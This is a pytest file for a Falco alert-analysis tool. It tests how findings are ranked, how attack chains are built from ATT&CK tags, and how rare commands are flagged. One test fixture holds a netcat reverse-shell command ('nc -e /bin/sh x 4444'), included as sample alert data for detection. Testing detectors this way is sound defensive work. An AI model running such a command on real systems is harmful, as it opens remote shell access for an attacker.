"""Top findings heuristics."""

from __future__ import annotations

from falco_lab.analysis.findings import find_findings
from falco_lab.events.schema import empty_frame
from tests.analysis.frames import alerts

WEB = {"k8s.ns.name": "shop", "k8s.pod.name": "web"}


def _titles(df):
    return [f.title for f in find_findings(df)]


def test_findings_are_sorted_most_severe_first():
    df = alerts(
        {**WEB, "priority": "Notice", "rule": "Shell"},
        {**WEB, "priority": "Critical", "rule": "Miner", "t": 9},
    )
    severities = [f.severity for f in find_findings(df)]
    assert severities[0] == "Critical"
    assert "Miner: 1 alert in 1 place" in _titles(df)


def test_first_alert_is_reported_with_its_place():
    first = next(
        f for f in find_findings(alerts({**WEB, "rule": "Shell"})) if f.title.startswith("First alert")
    )
    assert first.title == "First alert at 2026-11-27 10:00:00Z: Shell"
    assert first.evidence == ("shop/web",)


def test_three_tactics_in_one_pod_is_an_attack_chain_finding():
    df = alerts(
        {**WEB, "tags": ["mitre_execution"]},
        {**WEB, "tags": ["mitre_discovery"]},
        {**WEB, "tags": ["mitre_exfiltration"]},
    )
    finding = find_findings(df)[0]
    assert finding.title == "Attack chain in shop/web: 3 ATT&CK tactics, 3 suspicious alerts"
    assert finding.evidence == ("Execution: Test rule", "Discovery: Test rule", "Exfiltration: Test rule")


def test_rare_commands_are_listed():
    df = alerts(
        *[{**WEB, "proc.cmdline": "ls"} for _ in range(3)], {**WEB, "proc.cmdline": "nc -e /bin/sh x 4444"}
    )
    finding = next(f for f in find_findings(df) if "seen only once" in f.title)
    assert finding.evidence == ("nc -e /bin/sh x 4444 (shop/web)",)


def test_dominant_rule_is_a_tuning_candidate():
    df = alerts(*[{"rule": "Noisy", "priority": "Debug"} for _ in range(30)], {"rule": "Other"})
    assert "Noisy makes 97% of all alerts" in _titles(df)


def test_no_findings_for_empty_input():
    assert find_findings(empty_frame()) == []


def test_alerts_without_priority_do_not_count_as_emergencies():
    df = alerts(
        *[
            {**WEB, "tags": [t], "priority": None}
            for t in ("mitre_execution", "mitre_discovery", "mitre_exfiltration")
        ]
    )
    assert "Emergency" not in {f.severity for f in find_findings(df)}


def test_a_registered_finder_contributes_its_findings():
    from falco_lab.analysis.findings import FINDERS, Finding, register_finder

    @register_finder("test-every-rule")
    def every_rule(ctx):
        return [Finding("Critical", f"saw {r}", score=1000.0) for r in sorted(ctx.frame["rule"].unique())]

    try:
        titles = _titles(alerts({**WEB, "rule": "Shell"}))
    finally:
        del FINDERS["test-every-rule"]
    assert titles[0] == "saw Shell"


def test_registering_a_taken_finder_name_is_refused():
    import pytest

    from falco_lab.analysis.findings import register_finder

    with pytest.raises(ValueError, match="first-alert"):
        register_finder("first-alert")(lambda ctx: [])


def test_choosing_finders_runs_only_those():
    df = alerts({**WEB, "priority": "Critical", "rule": "Miner"})
    titles = [f.title for f in find_findings(df, finders=["severe-rules"])]
    assert titles == ["Miner: 1 alert in 1 place"]


def test_an_unknown_finder_name_is_an_error_naming_it():
    import pytest

    with pytest.raises(KeyError, match="no-such"):
        find_findings(alerts(WEB), finders=["no-such"])


def test_chains_given_by_the_caller_are_the_chains_it_would_find() -> None:
    from falco_lab.analysis.chains import attack_chains
    from tests.analysis.incidents import incident

    df, _ = incident(7, "project")
    chains = attack_chains(df, top=5)
    given = find_findings(df, finders=["attack-chain"], chains=chains)
    assert [f.title for f in given] == [f.title for f in find_findings(df, finders=["attack-chain"])]
    assert given and given[0].title.startswith("Attack chain in")


def test_chains_given_by_the_caller_are_used_as_given() -> None:
    from tests.analysis.incidents import incident

    assert find_findings(incident(7, "project")[0], finders=["attack-chain"], chains=[]) == []
